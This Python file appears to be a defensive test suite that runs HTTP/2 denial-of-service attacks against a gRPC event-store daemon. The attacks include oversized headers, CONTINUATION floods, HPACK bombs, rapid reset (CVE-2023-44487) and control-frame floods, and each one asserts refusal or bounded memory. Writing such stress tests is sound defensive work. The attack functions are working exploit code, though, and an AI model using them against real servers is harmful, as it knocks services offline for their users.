"""Attacks by frames and header blocks, before any call has begun."""

import http2
from model import Attack

HEAD = "/daybook.v1.EventStore/Head"
APPEND = "/daybook.v1.EventStore/Append"
METADATA_BYTES_MAX = 16384
# RESOURCE_EXHAUSTED, or UNAVAILABLE from a connection that is closed already.
REFUSALS = (8, 14)


def large_headers(count):
    return [http2.literal(b"x-%04d" % n, b"v" * 1000) for n in range(count)]


def header_list_too_large(target):
    """Twice the allowed header list, in one frame: the call is refused, and its connection closed."""
    connections_count = target.scale(400, 50)
    block = http2.request_block(HEAD, *large_headers(2 * METADATA_BYTES_MAX // 1000))
    for _ in range(connections_count):
        with http2.Connection(target.port) as connection:
            stream = connection.new_stream()
            try:
                connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block) +
                                http2.frame(http2.DATA, http2.END_STREAM, stream, http2.message(b"")))
                code, _ = connection.status(stream)
            except http2.Gone:
                continue
            assert code in REFUSALS, f"{len(block)} bytes of headers were answered with {code}"
    return f"{connections_count} calls with {len(block) >> 10} KiB of headers in one frame"


def header_list_in_parts(target):
    """gRPC 1.51 counts the header list of each frame by itself, so one that goes on in CONTINUATION has no limit: the daemon
    takes as much memory as is sent. Beyond gRPC's memory quota (256 MiB) others' calls are ended, so this stays below: what
    is shown is that the memory comes back. See SECURITY.md."""
    size = target.scale(192 << 20, 48 << 20)
    part = b"".join(large_headers(METADATA_BYTES_MAX // 1100))
    frames = http2.frame(http2.CONTINUATION, 0, 1, part) * 256
    sent = 0
    with http2.Connection(target.port) as connection:
        connection.send(http2.frame(http2.HEADERS, 0, connection.new_stream(), http2.request_block(HEAD)))
        taken = len(frames)
        while taken == len(frames) and sent < size:
            taken = connection.send_while_taken(frames, stall_seconds=20)
            sent += taken
        target.bystander.go_on(20)
    return f"{sent >> 20} MiB of headers in CONTINUATION frames, {size >> 20} MiB were meant"


def hpack_bomb(target):
    """One entry of the table, four kilobytes long, is named thousands of times, a byte each on the wire: refused."""
    references_count, bombs_count = target.scale((15000, 200), (15000, 20))
    first = http2.request_block(HEAD, http2.indexed_literal(b"x-bomb", b"v" * 4000))
    bomb = http2.request_block(HEAD) + http2.reference(http2.STATIC_COUNT + 1) * references_count
    end = http2.message(b"")
    for _ in range(bombs_count):
        with http2.Connection(target.port) as connection:
            stream = connection.new_stream()
            connection.send(http2.headers_frames(stream, first) + http2.frame(http2.DATA, http2.END_STREAM, stream, end))
            assert connection.status(stream)[0] == 0, "the entry itself is no harm"
            stream = connection.new_stream()
            try:
                connection.send(http2.headers_frames(stream, bomb) + http2.frame(http2.DATA, http2.END_STREAM, stream, end))
                code, _ = connection.status(stream)
            except http2.Gone:
                continue
            assert code in REFUSALS, f"a bomb was answered with {code}"
    return f"{bombs_count} calls, each of which names 4 KiB {references_count} times"


def hpack_bomb_in_parts(target):
    """The same of a small entry, in frames that stay below the limit: a byte on the wire is 170 bytes of memory. Without a
    limit, too, and below the quota here."""
    count, per_frame = target.scale(3000, 1000), 400
    part = http2.frame(http2.CONTINUATION, 0, 1, http2.reference(http2.STATIC_COUNT + 1) * per_frame)
    with http2.Connection(target.port) as connection:
        block = http2.request_block(HEAD, http2.indexed_literal(b"x", b"v"))
        connection.send(http2.frame(http2.HEADERS, 0, connection.new_stream(), block))
        sent = connection.send_while_taken(part * count, stall_seconds=20)
        target.bystander.go_on(20)
    return f"{sent // len(part) * per_frame} references in CONTINUATION frames, {count * per_frame} were meant"


def continuation_flood(target):
    """A header that never ends. What it costs grows with the square of its size, so the daemon's processor time is the price
    and its memory what is bounded here."""
    size = target.scale(4 << 20, 1 << 20)
    with http2.Connection(target.port) as connection:
        stream = connection.new_stream()
        start = http2.request_block(HEAD) + b"\x00" + http2.text(b"x-endless") + http2.integer(1 << 27, 7)
        connection.send(http2.frame(http2.HEADERS, 0, stream, start))
        part = http2.frame(http2.CONTINUATION, 0, stream, b"v" * http2.FRAME_BYTES_MAX)
        sent = connection.send_while_taken(part * (size // http2.FRAME_BYTES_MAX), stall_seconds=20)
        target.bystander.go_on(20)
    return f"a header of {sent / 2**20:.1f} MiB that does not end"


def continuations_without_content(target):
    """Empty frames that go on with a header block for ever."""
    count = target.scale(1000000, 100000)
    with http2.Connection(target.port) as connection:
        stream = connection.new_stream()
        connection.send(http2.frame(http2.HEADERS, 0, stream, http2.request_block(HEAD)))
        connection.send_while_taken(http2.frame(http2.CONTINUATION, 0, stream) * count, stall_seconds=20)
    return f"{count} empty CONTINUATION frames"


def rapid_reset(target):
    """Calls that are opened and reset at once, CVE-2023-44487; what they took must not grow from one round to the next."""
    rounds_count, calls_count = target.scale((5, 20000), (3, 4000))
    peaks = []
    for _ in range(rounds_count):
        with http2.Connection(target.port) as connection:
            block = http2.request_block(APPEND)
            frames = []
            for _ in range(calls_count):
                stream = connection.new_stream()
                frames += [http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block), http2.reset(stream)]
            connection.send_while_taken(b"".join(frames), stall_seconds=20)
            target.bystander.go_on(20)
            peaks.append(target.sample().memory_mib)
    # The first may be looked at before it has been gone through.
    assert peaks[-1] < max(peaks[:2]) + 64, f"memory grows from round to round: {[round(peak) for peak in peaks]} MiB"
    return f"{rounds_count} x {calls_count} HEADERS and RST_STREAM"


def flood_of(name, one, bound_mib, count_full=500000, count_short=100000):
    """An attack that repeats a frame, and reads nothing of what the daemon says to it."""
    def run(target):
        count = target.scale(count_full, count_short)
        with http2.Connection(target.port) as connection:
            stream = connection.open_call(APPEND, end=False)
            sent = connection.send_while_taken(one(stream) * count, stall_seconds=5)
            target.bystander.go_on(20)
        return f"{sent // len(one(stream))} of {count} frames were taken"
    return Attack(name, bound_mib, run)


# Above 32 MiB: what is sent in parts of a header list is kept; a round of calls that are reset is taken in before its first is
# let go of; a flood of PING is answered by a GOAWAY each until a read of up to 4 MiB has been gone through, and then closed.
ATTACKS = [
    Attack("header list too large", 32, header_list_too_large),
    Attack("header list in parts", 256, header_list_in_parts),
    Attack("HPACK bomb", 32, hpack_bomb),
    Attack("HPACK bomb in parts", 256, hpack_bomb_in_parts),
    Attack("CONTINUATION, endless", 64, continuation_flood),
    Attack("CONTINUATION, empty", 32, continuations_without_content),
    Attack("rapid reset", 384, rapid_reset),
    flood_of("PING flood", lambda stream: http2.frame(http2.PING, payload=b"attacked"), 128),
    flood_of("SETTINGS flood", lambda stream: http2.settings({http2.SETTING_INITIAL_WINDOW_SIZE: 65535}), 32),
    flood_of("empty DATA flood", lambda stream: http2.frame(http2.DATA, 0, stream), 32),
    flood_of("WINDOW_UPDATE flood", lambda stream: http2.window_update(stream, 1), 32),
    flood_of("PRIORITY flood", lambda stream: http2.frame(http2.PRIORITY, 0, stream + 2, b"\0\0\0\0\1"), 32),
]
